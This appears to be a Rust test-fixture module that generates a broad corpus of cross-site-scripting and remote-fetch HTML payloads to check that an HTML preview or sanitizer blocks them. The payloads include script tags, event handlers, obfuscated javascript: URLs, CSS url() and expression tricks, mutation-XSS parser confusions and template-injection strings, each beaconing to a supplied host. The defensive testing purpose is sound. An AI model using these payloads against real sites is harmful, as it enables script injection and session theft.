//! HTML that wants to run or to fetch something, put together from parts of our own: what it wants, where it stands, how it is
//! written. The window's own test feeds the same cases to the real preview, with the address of a listener.

/// A case: what it is called, and its HTML.
pub(crate) struct Case {
    pub(crate) name: String,
    pub(crate) html: String,
}

/// Puts all cases together. `host` is what they would ask, such as `127.0.0.1:8000`.
pub(crate) fn cases(host: &str) -> Vec<Case> {
    let mut cases = Vec::new();
    let mut add = |family: &str, html: String| {
        cases.push(Case {
            name: format!("{family} {}", cases.len()),
            html,
        });
    };
    let run = run(host);
    for place in PLACES {
        for script in SCRIPTS {
            add("script", stand(place, &written(script, host, &run)));
        }
    }
    for place in PLACES.iter().step_by(3) {
        for tag in TAGS {
            add("tag", stand(place, &written(tag, host, &run)));
        }
    }
    for carrier in CARRIERS {
        for address in addresses(host, &run) {
            add("address", carrier.replace("ADDRESS", &address));
        }
    }
    for style in STYLES {
        let style = written(style, host, &run);
        add("style attribute", format!("<p style=\"{style}\">a</p>"));
        add(
            "style attribute",
            format!("<td style='color:red;{style}'>a</td>"),
        );
        add(
            "style sheet",
            format!("<style>p {{ {style} }}</style><p>a</p>"),
        );
        add(
            "style sheet",
            format!("<svg><style>* {{ {style} }}</style></svg><p>a</p>"),
        );
    }
    for sheet in SHEETS {
        add(
            "sheet",
            format!("<style>{}</style><p>a</p>", written(sheet, host, &run)),
        );
        add(
            "sheet",
            format!(
                "<STYLE media=all>a{{color:red}}{}",
                written(sheet, host, &run)
            ),
        );
    }
    for foreign in [
        "svg",
        "math",
        "svg><desc",
        "math><mtext",
        "svg><foreignobject",
        "math><annotation-xml encoding='text/html'",
    ] {
        for raw in RAW {
            let bait = format!("<img src=//{host}/m onerror={run}>");
            add(
                "mutation",
                format!("<{foreign}><{raw}><a title=\"</{raw}>{bait}\">a</a>"),
            );
            add(
                "mutation",
                format!("<{foreign}><{raw}><!--</{raw}>{bait}-->"),
            );
        }
    }
    for raw in RAW {
        let bait = format!("<img src=//{host}/m onerror={run}>");
        add("raw", format!("<{raw}><p id=\"</{raw}>{bait}\"></p>"));
        add(
            "raw",
            format!("<form><math><mtext></form><form><mglyph><{raw}></math>{bait}"),
        );
        add("raw", format!("<table><{raw}><td></table>{bait}</{raw}>"));
    }
    for text in TEMPLATES {
        add(
            "template",
            format!("<p title=\"{0}\">{0}</p>", written(text, host, &run)),
        );
    }
    for text in ODDITIES {
        add("oddity", written(text, host, &run));
    }
    cases
}

/// A script without quotes and blanks, so that it may stand anywhere.
fn run(host: &str) -> String {
    format!("top.tillRan=1;window.tillRan=1;new/**/Image().src=`//{host}/ran`")
}

fn written(part: &str, host: &str, run: &str) -> String {
    part.replace("HOST", host).replace("RUN", run)
}

fn stand(place: &str, html: &str) -> String {
    place.replace("HERE", html)
}

/// Where it stands.
const PLACES: &[&str] = &[
    "HERE",
    "<p>a</p>HERE<p>b</p>",
    "<table><tr><td>HERE</td></tr></table>",
    "<table>HERE</table>",
    "<ul><li>HERE",
    "<svg>HERE</svg>",
    "<math>HERE</math>",
    "<svg><desc>HERE</desc></svg>",
    "<noscript>HERE</noscript>",
    "<template>HERE</template>",
    "<textarea></textarea>HERE",
    "<title></title>HERE",
    "<style></style>HERE",
    "<!-- -->HERE<!-- -->",
    "<!--[if mso]>HERE<![endif]-->",
    "<!-->HERE-->",
    "<a title=\"x\">HERE</a>",
    "<a title='\">HERE<\"'>b</a>",
    "<select><option>HERE</select>",
    "<font color=\"red\">HERE",
    "<html><head>HERE</head><body>a</body></html>",
    "<b><i></b>HERE</i>",
];

/// Scripts.
const SCRIPTS: &[&str] = &[
    "<script>RUN</script>",
    "<ScRiPt src=//HOST/s.js></sCrIpT>",
    "<script\n/x>RUN</script\t>",
    "<script>RUN",
    "<<script>RUN//<</script>",
    "<script type=module src='http://HOST/s.mjs'></script>",
    "<svg><script href=http://HOST/s.js></script></svg>",
    "<svg><script>RUN<b></script></svg>",
    "<s\0cript>RUN</s\0cript>",
    "<script><!--\nRUN\n--></script>",
];

/// Tags that run, fetch or lead away by themselves.
const TAGS: &[&str] = &[
    "<img src=x onerror=RUN>",
    "<img src=http://HOST/i.png>",
    "<img/src=//HOST/i.png/onload=RUN>",
    "<img srcset='http://HOST/a.png 1x, http://HOST/b.png 2x'>",
    "<picture><source srcset=http://HOST/p.png><img></picture>",
    "<image src=http://HOST/i.png href=http://HOST/j.png>",
    "<svg onload=RUN>",
    "<svg><image href=http://HOST/v.png xlink:href=http://HOST/w.png></svg>",
    "<svg><use href=http://HOST/u.svg#a></use></svg>",
    "<svg><filter><feImage href=http://HOST/f.png></filter></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>a</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:RUN></svg>",
    "<math href=javascript:RUN>a</math>",
    "<math><mi xlink:href=http://HOST/>a</mi></math>",
    "<body onload=RUN background=http://HOST/b.png>",
    "<table background=http://HOST/t.png><tr><td background=http://HOST/t.png>a</table>",
    "<details open ontoggle=RUN><summary>a</summary></details>",
    "<video autoplay src=http://HOST/v.mp4 poster=http://HOST/p.png onloadstart=RUN></video>",
    "<audio src=http://HOST/a.mp3 autoplay onerror=RUN></audio>",
    "<video><source onerror=RUN src=http://HOST/v></video>",
    "<input autofocus onfocus=RUN type=image src=http://HOST/i.png>",
    "<marquee onstart=RUN>a</marquee>",
    "<iframe src=http://HOST/f.html></iframe>",
    "<iframe srcdoc='&lt;script&gt;RUN&lt;/script&gt;'></iframe>",
    "<frameset onload=RUN><frame src=http://HOST/f.html></frameset>",
    "<object data=http://HOST/o.svg type=image/svg+xml></object>",
    "<object data='data:text/html,&lt;script&gt;RUN&lt;/script&gt;'></object>",
    "<embed src=http://HOST/e.svg>",
    "<applet code=A archive=http://HOST/a.jar></applet>",
    "<form action=http://HOST/ id=f><button formaction=http://HOST/g autofocus onfocus=RUN>a</button></form>",
    "<button form=f formaction=javascript:RUN>a</button>",
    "<meta http-equiv=refresh content='0;url=http://HOST/r'>",
    "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=javascript:RUN\">",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href=http://HOST/><img src=rel.png>",
    "<link rel=stylesheet href=http://HOST/l.css>",
    "<link rel=prefetch href=http://HOST/l><link rel=dns-prefetch href=//HOST>",
    "<link rel=preload as=image href=http://HOST/l.png><link rel=icon href=http://HOST/i.ico>",
    "<bgsound src=http://HOST/b.wav>",
    "<a href=http://HOST/ ping=http://HOST/ping onclick=RUN>a</a>",
    "<p onmouseover=RUN oncut=RUN style=animation-name:x onanimationstart=RUN>a</p>",
    "<div contenteditable autofocus onfocus=RUN tabindex=0>a</div>",
    "<keygen autofocus onfocus=RUN>",
    "<dialog open oncancel=RUN><form method=dialog><input></form></dialog>",
    "<portal src=http://HOST/p></portal>",
    "<track src=http://HOST/t default>",
    "<area href=javascript:RUN shape=default><map name=m><area href=http://HOST/></map>",
    "<x onclick=RUN tabindex=1 onfocus=RUN id=x>a</x>",
];

/// What carries an address.
const CARRIERS: &[&str] = &[
    "<a href=\"ADDRESS\">a</a>",
    "<A HREF='ADDRESS' target=_top>a</A>",
    "<img src=\"ADDRESS\">",
    "<iframe src=\"ADDRESS\"></iframe>",
    "<form action=\"ADDRESS\"><input type=submit></form>",
    "<object data=\"ADDRESS\"></object>",
    "<svg><a href=\"ADDRESS\" xlink:href=\"ADDRESS\">a</a></svg>",
    "<embed src=\"ADDRESS\">",
    "<blockquote cite=\"ADDRESS\">a</blockquote>",
    "<td background=\"ADDRESS\">a</td>",
];

/// An address that runs something, in the ways that it can be written.
fn addresses(host: &str, run: &str) -> Vec<String> {
    let plain = format!("javascript:{run}");
    let entities = |form: fn(u32) -> String| {
        let scheme: String = "javascript:"
            .chars()
            .map(|letter| form(u32::from(letter)))
            .collect();
        format!("{scheme}{run}")
    };
    vec![
        plain.clone(),
        format!("JaVaScRiPt:{run}"),
        format!("java\tscript:{run}"),
        format!("java\nscript\r:{run}"),
        format!("\u{1}javascript:{run}"),
        format!("  javascript:{run}"),
        format!("\u{a0}javascript:{run}"),
        entities(|code| format!("&#{code};")),
        entities(|code| format!("&#x{code:X};")),
        entities(|code| format!("&#{code:07}")),
        format!("java&Tab;script&colon;{run}"),
        format!("java&NewLine;script:{run}"),
        format!("java\0script:{run}"),
        format!("vbscript:{run}"),
        format!("data:text/html,<script>{run}</script>"),
        format!("data:image/svg+xml,<svg onload='{run}'/>"),
        format!("view-source:http://{host}/"),
        format!("blob:http://{host}/a"),
        format!("file://{host}/a"),
        format!("//{host}/relative"),
        format!("\\\\{host}\\share"),
        format!("http:/\t/{host}/split"),
    ]
}

/// Declarations that fetch or run something.
const STYLES: &[&str] = &[
    "background:url(http://HOST/c.png)",
    "background-image:URL( http://HOST/c.png )",
    "background:u\\72 l(http://HOST/c.png)",
    "background:\\75\\72\\6c(http://HOST/c.png)",
    "background:ur/**/l(http://HOST/c.png)",
    "background/**/:/**/url(http://HOST/c.png)",
    "background:image-set(url(http://HOST/c.png) 1x)",
    "background:-webkit-image-set(url(http://HOST/c.png) 1x)",
    "background:cross-fade(url(http://HOST/c.png), red, 50%)",
    "background:image(http://HOST/c.png)",
    "background:src(http://HOST/c.png)",
    "list-style:url(http://HOST/c.png)",
    "list-style-image:url(//HOST/c.png)",
    "cursor:url(http://HOST/c.cur),auto",
    "content:url(http://HOST/c.png)",
    "border-image:url(http://HOST/c.png) 30",
    "mask:url(http://HOST/c.svg#m)",
    "filter:url(http://HOST/c.svg#f)",
    "clip-path:url(http://HOST/c.svg#c)",
    "shape-outside:url(http://HOST/c.png)",
    "width:expression(RUN)",
    "width:exp/**/ression(RUN)",
    "behavior:url(http://HOST/b.htc)",
    "-moz-binding:url(http://HOST/b.xml#x)",
    "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=http://HOST/f.png)",
    "--x:url(http://HOST/v.png);background:var(--x)",
    "background:url(data:image/svg+xml,<svg/onload=RUN>)",
    "color:red}</style><script>RUN</script><style>{",
    "color:red;}*{background:url(http://HOST/c.png)",
    "font-family:'</style><img src=x onerror=RUN>'",
];

/// Sheets that fetch or run something.
const SHEETS: &[&str] = &[
    "@import url(http://HOST/i.css);",
    "@import 'http://HOST/i.css';",
    "@import/**/\"//HOST/i.css\" screen;",
    "@\\69mport url(http://HOST/i.css);",
    "@charset 'x';@import url(//HOST/i.css)",
    "@font-face{font-family:x;src:url(http://HOST/f.woff)}*{font-family:x}",
    "@media all{*{background:url(http://HOST/m.png)}}",
    "@media all{@import url(http://HOST/m.css);}",
    "@supports(display:block){*{background:url(http://HOST/s.png)}}",
    "@namespace url(http://HOST/n);",
    "@document url(http://HOST/){*{color:red}}",
    "@keyframes x{to{background:url(http://HOST/k.png)}}",
    "@page{background:url(http://HOST/p.png)}",
    "@property --x{syntax:'<url>';inherits:false;initial-value:url(http://HOST/p)}",
    "@layer a{*{background:url(http://HOST/l.png)}}",
    "input[value^=a]{background:url(http://HOST/a)}",
    "a{color:red}</style><img src=x onerror=RUN>",
    "a{color:red}<!--</style><script>RUN</script>-->",
    "a{font-family:\"}*{background:url(http://HOST/q.png)}",
    "a{}}}}*{background:url(http://HOST/b.png)}",
    "a{b:{c:{d:{background:url(http://HOST/n.png)}}}}",
    "/*",
    "/**/*/**/{/**/background/**/:/**/url(http://HOST/o.png)/**/}",
];

/// Tags whose content is read in its own way.
const RAW: &[&str] = &[
    "style",
    "title",
    "noscript",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "mglyph",
    "template",
    "select",
    "malignmark",
    "option",
];

/// What engines of templates would run.
const TEMPLATES: &[&str] = &[
    "{{constructor.constructor(`RUN`)()}}",
    "{{ 7*7 }}",
    "{{ self.__init__ }}",
    "{{ contact_name|safe }}",
    "{% include 'http://HOST/t' %}",
    "{% raw %}<script>RUN</script>{% endraw %}",
    "{{{RUN}}}",
    "${RUN}",
    "#{RUN}",
    "<%= RUN %>",
    "<?php RUN ?>",
    "[[${RUN}]]",
    "{{'<script>RUN</script>'}}",
    "{{ contact_name }}<script>RUN</script>",
    "[[till:0]]<mj-raw><script>RUN</script></mj-raw>",
];

/// What fits nowhere else.
const ODDITIES: &[&str] = &[
    "\u{feff}<script>RUN</script>",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
    "<?xml-stylesheet href=http://HOST/x.css?><p>a</p>",
    "<!DOCTYPE html SYSTEM \"http://HOST/d.dtd\"><p>a</p>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://HOST/e\">]><p>&e;</p>",
    "<![CDATA[<script>RUN</script>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=RUN>]]>",
    "<p title=\"a\" title=\"\" onclick=RUN onclick=RUN>a",
    "<p/onclick=RUN//style=background:url(//HOST/x)>a",
    "<p \u{c}onclick\u{c}=\u{c}RUN>a",
    "<p 'onclick=RUN'>a<p \"onclick=RUN\">b<p `onclick=RUN`>c",
    "<a href=\"https://a.example/\" <script>RUN</script>\">a</a>",
    "<a href=https://a.example/><a href=javascript:RUN>b",
    "<img alt=\"><script>RUN</script>\" src=http://HOST/a.png>",
    "<img alt='\"><script>RUN</script>' src='http://HOST/\"><script>RUN</script>'>",
    "<a title='<img src=x onerror=RUN>' href='http://HOST/\"onclick=RUN'>a</a>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&amp;lt;script&amp;gt;RUN",
    "<",
    "<!",
    "</",
    "<script",
    "<!--",
    "<a href=\"javascript:RUN",
    "<style",
    "<div><div><div></table></p></td><script>RUN</script>",
    "<body><body onload=RUN><html onclick=RUN><head onclick=RUN>",
    "<isindex action=http://HOST/ prompt=a>",
    "<input onfocus=RUN autofocus><select onfocus=RUN autofocus><textarea onfocus=RUN autofocus>",
];
